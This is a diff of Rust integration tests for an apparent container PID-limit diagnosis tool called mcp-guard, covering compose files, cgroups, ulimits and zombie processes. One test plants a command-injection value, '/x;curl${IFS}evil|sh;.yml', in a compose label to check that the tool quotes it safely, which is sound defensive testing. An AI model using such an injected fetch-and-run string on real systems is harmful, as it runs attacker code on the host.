@@ -9,10 +9,14 @@ use std::{
     process::{Child, Command, Stdio},
 };
 
-use mcp_guard_core::diagnose::{
-    code::Code,
-    report::{Certainty, Report, Verdict},
-    version::version,
+use mcp_guard::host::mark::{self, Mark, Slot};
+use mcp_guard_core::{
+    Time,
+    diagnose::{
+        code::Code,
+        report::{Certainty, Report, Verdict},
+        version::version,
+    },
 };
 use mcp_guard_tests::{
     cgroup::FixtureCgroup,
@@ -86,13 +90,99 @@ fn p007_somebody_updated_it_behind_the_file() {
 
 #[test]
 fn p005_null_and_zero_are_told_apart() {
-    let container = sleeper("p005", &["--pids-limit", "-1"]);
-    let made = first(&container, Code::ExplicitUnlimited).findings[0].title.clone();
-    update(&container, 25);
+    let kept = |container: &Container, kept: &str| {
+        assert_eq!(container.inspect("json .HostConfig.PidsLimit").unwrap(), kept);
+        first(container, Code::ExplicitUnlimited).findings[0].title.clone()
+    };
+    // Made without a limit, however that was said.
+    for options in [&[][..], &["--pids-limit", "0"], &["--pids-limit", "-1"]] {
+        let container = sleeper("p005", options);
+        let made = kept(&container, "null");
+        assert!(made.contains("null"), "{options:?}: {made}");
+    }
+    let container = sleeper("p005-updated", &["--pids-limit", "25"]);
+    for none in [0, -1] {
+        fine(&container, Code::Enforced);
+        update(&container, none);
+        let updated = kept(&container, "0");
+        assert!(updated.contains("update"), "{none}: {updated}");
+        update(&container, 25);
+    }
+    fine(&container, Code::Enforced);
+}
+
+#[test]
+fn p005_an_update_that_took_the_files_limit_away() {
+    let project = Project::new();
+    project.write(25);
+    let container = run(&project, "p005-file", &["--pids-limit", "25"]);
     fine(&container, Code::Enforced);
     update(&container, 0);
-    let updated = first(&container, Code::ExplicitUnlimited).findings[0].title.clone();
-    assert!(made.contains("null") && updated.contains("update"), "{made} / {updated}");
+    let report = first(&container, Code::ExplicitUnlimited);
+    assert_eq!(report.findings[0].certainty, Certainty::Proved);
+    assert!(report.findings[0].repair.command.ends_with(" --limit 25"), "{report:#?}");
+}
+
+#[test]
+fn p005_and_p002_a_file_that_says_none() {
+    let project = Project::new();
+    let container = run(&project, "p005-none", &[]);
+    let write = |limit: &str| {
+        let text = format!("services:\n  web:\n    image: x\n    pids_limit: {limit}\n");
+        fs::write(project.file(), text).unwrap();
+    };
+    write("-1");
+    let report = first(&container, Code::ExplicitUnlimited);
+    assert!(report.findings[0].title.contains("pids_limit: -1"), "{report:#?}");
+    // compose takes 0 for not set.
+    write("0");
+    first(&container, Code::NeverDeclared);
+}
+
+#[test]
+fn a_limit_from_a_variable_is_possible_only() {
+    let project = Project::new();
+    let text = "services:\n  web:\n    image: x\n    pids_limit: ${MCP_PIDS:-500}\n";
+    fs::write(project.file(), text).unwrap();
+    let env = project.folder().join(".env.production");
+    fs::write(&env, "MCP_PIDS=25 # of them\n").unwrap();
+    let named = format!("--label=com.docker.compose.project.environment_file={}", env.display());
+    // As the shell had it.
+    let container = run(&project, "variable", &[&named, "--pids-limit", "100"]);
+    let report = diagnose(&container);
+    assert_eq!((report.verdict, report.declared), (Verdict::Enforced, Some(100)));
+    let finding = &report.findings[0];
+    assert!(finding.certainty == Certainty::Possible && !finding.repair.possible, "{finding:#?}");
+    let seen = &finding.evidence[0];
+    assert_eq!(seen.value, "pids_limit: 25", "the file that the label names");
+    fs::remove_file(&env).unwrap();
+    fine(&container, Code::Enforced);
+}
+
+#[test]
+fn a_clamp_of_ours_is_no_cause() {
+    let container = sleeper("clamp", &["--pids-limit", "50"]);
+    let pids = container.cgroup().unwrap().pids;
+    let mark = Mark {
+        incident: "i-1".to_owned(),
+        reason: "a test".to_owned(),
+        deadline: Time(0),
+        boot_id: String::new(),
+        holder: 0,
+        holder_start: 0,
+        found: Some("50".to_owned()),
+        wrote: Some("20".to_owned()),
+    };
+    let dir = fs::File::open(&pids).unwrap();
+    mark::write(&dir, Slot::Clamp, &mark).unwrap();
+    fs::write(pids.join("pids.max"), "20").unwrap();
+    let report = fine(&container, Code::Enforced);
+    assert_eq!((report.declared, report.effective_limit), (Some(50), Some(20)));
+    let note = format!("`mcp-guard thaw {}`", container.name);
+    assert!(report.notes.iter().any(|one| one.contains(&note)), "{:#?}", report.notes);
+    // A number that the mark does not have is somebody else's.
+    fs::write(pids.join("pids.max"), "30").unwrap();
+    first(&container, Code::RawWrite);
 }
 
 #[test]
@@ -225,6 +315,13 @@ fn p061_the_dead_that_nobody_reaps() {
     wait_until("they are dead", || Ok(diagnose(&container).charged.zombies == 6)).unwrap();
     let report = first(&container, Code::Zombies);
     assert_eq!((report.charged.processes, report.charged.tasks), (1, Some(7)));
+    // One that waits for its children leaves nothing.
+    let program = ["sh", "-c", "for i in 1 2 3 4 5 6; do (exit 0) & done; wait; exec sleep 600"];
+    let image = busybox_image().unwrap();
+    let container = Container::run("p061-look-alike", &image, &options, &program).unwrap();
+    let sleeps = |(_, line): &(u32, String)| line.starts_with("sleep");
+    wait_until("it has waited", || Ok(container.top()?.iter().all(sleeps))).unwrap();
+    assert_eq!(fine(&container, Code::Enforced).charged.tasks, Some(1));
 }
 
 #[test]
@@ -261,6 +358,32 @@ fn p071_a_limit_of_another_kind() {
     let container = sleeper("p071", &["--ulimit", "nproc=25"]);
     let report = first(&container, Code::WrongLayer);
     assert!(report.findings[0].title.contains("nproc=25"));
+    // The same in a project whose file has no limit.
+    let project = Project::new();
+    fs::write(project.file(), "services:\n  web:\n    image: x\n").unwrap();
+    first(&run(&project, "p071-project", &["--ulimit", "nproc=25"]), Code::WrongLayer);
+    // Beside a limit it is nobody's mistake, and another ulimit limits no processes.
+    let options = ["--ulimit", "nproc=25", "--pids-limit", "30"];
+    fine(&sleeper("p071-look-alike", &options), Code::Enforced);
+    let other = sleeper("p071-other", &["--ulimit", "nofile=100"]);
+    first(&other, Code::ExplicitUnlimited);
+}
+
+#[test]
+fn p070_a_parent_that_others_filled() {
+    let parent = FixtureCgroup::new("parent").unwrap();
+    let _everywhere = Everywhere(parent.path().to_owned());
+    let above = ["--cgroup-parent", parent.path(), "--pids-limit", "8"];
+    let (container, other) = (sleeper("p070-full", &above), sleeper("p070-other", &above));
+    let place = other.cgroup().unwrap();
+    let _others: Vec<Ended> = (0..8).map(|_| Ended::moved_into(&place.pids)).collect();
+    parent.set_pids_max(50).unwrap();
+    fine(&container, Code::Enforced);
+    // Not lower than the container's own, and nothing is left of it.
+    parent.set_pids_max(10).unwrap();
+    let report = first(&container, Code::AncestorLimit);
+    let title = &report.findings[0].title;
+    assert!(title.contains("10 of 10 tasks") && title.contains("1 of 8"), "{title}");
 }
 
 #[test]
@@ -441,6 +564,21 @@ fn hostile_labels_forge_no_line() {
         assert!(!text.contains('\x1b') && !text.contains('\u{202e}'), "{words:?}: {text}");
         assert!(!text.lines().any(|line| line.starts_with("note: forged")), "{words:?}: {text}");
     }
+}
+
+#[test]
+fn a_command_that_a_label_is_in_is_quoted() {
+    const FILE: &str = "/x;curl${IFS}evil|sh;.yml";
+    let label = |name: &str, value: &str| format!("--label=com.docker.compose.{name}={value}");
+    let labels =
+        [label("project", "p"), label("service", "web"), label("project.config_files", FILE)];
+    let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
+    let container = sleeper("quoted", &labels);
+    let folder = tempfile::tempdir().unwrap();
+    let done = without_agent(folder.path(), &["diagnose", &container.name]).unwrap();
+    let text = String::from_utf8(done.stdout).unwrap();
+    let help = format!("  = help: docker compose -f '{FILE}' config");
+    assert!(text.lines().any(|line| line == help), "{text}");
 }
 
 #[test]
